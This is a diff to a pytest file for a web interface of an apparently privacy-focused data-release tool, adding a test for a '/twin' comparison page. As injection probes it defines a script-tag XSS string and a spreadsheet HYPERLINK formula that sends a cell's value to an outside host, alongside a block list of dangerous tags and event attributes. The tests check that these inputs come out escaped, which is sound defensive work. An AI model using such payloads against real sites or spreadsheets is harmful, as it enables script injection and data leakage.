@@ -8,6 +8,7 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+import tomlkit
 from starlette.testclient import TestClient
 
 from sarus_kernel.release import Label, PrivacyLoss, Provenance, Receipt, Release, Value
@@ -26,7 +27,7 @@ from tests.vault.open_vaults import CROSS, POLICY
 TOKEN = "the owner's token, which is long enough"
 HOSTILE = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://x/?"&A1)'
-PATHS = ("/", "/releases", "/releases/1", "/refusals", "/data")
+PATHS = ("/", "/releases", "/releases/1", "/refusals", "/data", "/twin")
 OPEN = ("/login", "/style.css")
 SHEETS = ("/releases.csv", "/refusals.csv", "/grantees.csv")
 SECRET = 424242
@@ -120,6 +121,27 @@ def test_without_a_session_there_is_only_the_door(stranger: TestClient, path: st
         assert reply.text == ""
 
 
+def test_the_twin_beside_the_rows(desk: Desk, owner: TestClient) -> None:
+    """The worst column first, each with its levels and nulls of both; of other rows, or where
+    nobody has compared, only how to."""
+    assert "twin" in owner.get("/twin").text and "--compare" in owner.get("/twin").text
+    file = desk.directory / "private" / "twin_beside.toml"
+    columns = [
+        {"table": "person", "column": name, "distance": apart, "words": ["no value", HOSTILE],
+         "real": [0.123, 0.877], "twin": [0.5, 0.5]}
+        for name, apart in (("good", 0.1), ("bad", 0.9))
+    ]  # fmt: skip
+    known = {"format": 1, "data_version": CATALOG.version, "columns": columns}
+    file.write_text(tomlkit.dumps(known), "utf-8")
+    text = owner.get("/twin").text
+    assert text.index("<code>bad</code>") < text.index("<code>good</code>")
+    assert "0.90" in text and "87.7 %" in text and "12 %" in text and "50 %" in text
+    tags = Tags(text)
+    assert tags.tags.count("rect") == 8 and "script" not in tags.tags
+    file.write_text(tomlkit.dumps(known | {"data_version": "another"}), "utf-8")
+    assert "87.7 %" not in owner.get("/twin").text and "--compare" in owner.get("/twin").text
+
+
 def test_a_wrong_token_opens_nothing(stranger: TestClient) -> None:
     """It says so, sets no cookie, and after some of them asks for patience."""
     forms = [{"token": "wrong"}, {}, {"token": ""}, {"token": TOKEN + "x"}, {"other": TOKEN},
@@ -170,7 +192,7 @@ def test_a_grantee_s_words_stay_words(owner: TestClient, path: str) -> None:
     assert not {"script", "style", "iframe", "img", "object", "base"} & set(found.tags)
     assert not [name for name in found.attributes if name.startswith("on") or name == "style"]
     assert HOSTILE not in reply.text
-    if path != "/data":
+    if path not in ("/data", "/twin"):
         assert "&lt;script&gt;alert(1)&lt;/script&gt;" in reply.text
 
 
